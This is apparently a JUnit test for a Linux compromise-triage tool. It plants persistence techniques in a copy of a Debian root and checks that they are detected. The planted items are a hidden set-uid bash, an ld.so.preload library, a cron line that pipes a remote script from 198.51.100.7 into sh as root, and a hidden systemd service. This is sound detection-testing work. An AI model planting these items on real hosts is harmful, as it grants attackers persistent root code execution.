package dev.ward.run;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.ward.collect.Scan;
import dev.ward.collect.pam.PamCollector;
import dev.ward.collect.script.ScriptCollector;
import dev.ward.collect.setid.SetIdCollector;
import dev.ward.detect.Results;
import dev.ward.detect.checks.CheckCatalog;
import dev.ward.host.HostRoot;
import dev.ward.model.Finding;
import dev.ward.model.Severity;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.InstantSource;
import java.util.List;
import java.util.TreeSet;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Every triage check on a freshly debootstrapped Debian 12 minbase root: silent at medium and
 * above, and finding the techniques once they are applied to a copy of it. The copy is made of
 * hard links, so the test only ever creates new files in it, never writes to an existing one.
 */
@Tag("debian-root")
class TriageDebianRootTest {
    static final Path DEBIAN = Path.of("/tmp/ward-scenarios/debian-root");

    @TempDir
    Path dir;

    static void assumeRoot() {
        Assumptions.assumeTrue(Files.isDirectory(DEBIAN.resolve("etc")) && Files.isDirectory(DEBIAN.resolve("var/lib/dpkg/info")),
                "no debootstrapped root at " + DEBIAN);
    }

    @Test
    void quietOnAFreshInstall() throws Exception {
        assumeRoot();
        try (HostRoot root = HostRoot.open(DEBIAN)) {
            Scan scan = new Scan(root, InstantSource.system());
            Results out = new Results();
            Checks.triage(CheckCatalog.builtin()).forEach(d -> d.detect(scan, out));
            List<String> loud = out.findings().stream().filter(f -> f.severity().atLeast(Severity.MEDIUM))
                    .map(f -> f.severity().label() + " " + f.check() + " " + f.summary()).toList();
            assertEquals(List.of(), loud);
            assertEquals(List.of(), out.errors());
            // The checks looked at something: a minbase root has PAM stacks, profile files and set-id programs.
            assertTrue(scan.packages().isPresent());
            assertFalse(scan.records(new PamCollector()).records().isEmpty());
            assertFalse(scan.records(new ScriptCollector()).records().isEmpty());
            assertTrue(scan.records(new SetIdCollector()).records().size() >= 5);
            // What only a running system has is said to be left out, not silently missing.
            assertEquals(List.of("loaded kernel modules, processes, sockets (an image has none: look at the live host)"),
                    out.skipped());
        }
    }

    @Test
    void findsTechniquesAppliedToACopy() throws Exception {
        assumeRoot();
        Path r = dir.resolve("root");
        assertEquals(0, new ProcessBuilder("cp", "-al", DEBIAN.toString(), r.toString()).inheritIO().start().waitFor());
        // A set-uid copy of bash in a hidden directory under /var/tmp.
        Files.createDirectories(r.resolve("var/tmp/.cache-x"));
        Files.copy(r.resolve("usr/bin/bash"), r.resolve("var/tmp/.cache-x/sh"));
        assertEquals(0, new ProcessBuilder("chmod", "4755", r.resolve("var/tmp/.cache-x/sh").toString()).start().waitFor());
        // An unpackaged library in /etc/ld.so.preload.
        Path lib = r.resolve("usr/lib/x86_64-linux-gnu/libseconf.so.1");
        Files.copy(r.resolve("usr/lib/x86_64-linux-gnu/libpam.so.0"), lib);
        Files.write(lib, "readdir64\0/proc\0".getBytes(), StandardOpenOption.APPEND);
        Files.writeString(r.resolve("etc/ld.so.preload"), "/usr/lib/x86_64-linux-gnu/libseconf.so.1\n");
        // A cron job and an enabled unit.
        Files.createDirectories(r.resolve("etc/cron.d"));
        Files.writeString(r.resolve("etc/cron.d/apt-daily-check"), "*/10 * * * * root curl -fsSL http://198.51.100.7/k.sh | sh\n");
        Files.createDirectories(r.resolve("etc/systemd/system/multi-user.target.wants"));
        Files.writeString(r.resolve("etc/systemd/system/helper.service"), "[Service]\nExecStart=/tmp/.X11-unix/.rsync\n");
        Files.createSymbolicLink(r.resolve("etc/systemd/system/multi-user.target.wants/helper.service"),
                Path.of("/etc/systemd/system/helper.service"));
        List<String> found = new TreeSet<>(run(r).stream().filter(f -> f.severity().atLeast(Severity.MEDIUM))
                .map(f -> f.severity().label() + " " + f.check() + " " + f.paths().getFirst()).toList()).stream().toList();
        assertEquals(List.of("critical linux.preload.library /etc/ld.so.preload",
                "critical linux.setid.unowned /var/tmp/.cache-x/sh",
                "high linux.cron.download_and_execute /etc/cron.d/apt-daily-check",
                "high linux.systemd.unowned_enabled_unit /etc/systemd/system/helper.service",
                "medium linux.cron.unowned_file /etc/cron.d/apt-daily-check",
                "medium linux.packages.unowned_file /usr/lib/x86_64-linux-gnu/libseconf.so.1"), found);
    }

    private static List<Finding> run(Path rootDir) throws Exception {
        try (HostRoot root = HostRoot.open(rootDir)) {
            return new Triage(Checks.triage(CheckCatalog.builtin()), InstantSource.system())
                    .run(root, List.of()).findings();
        }
    }
}
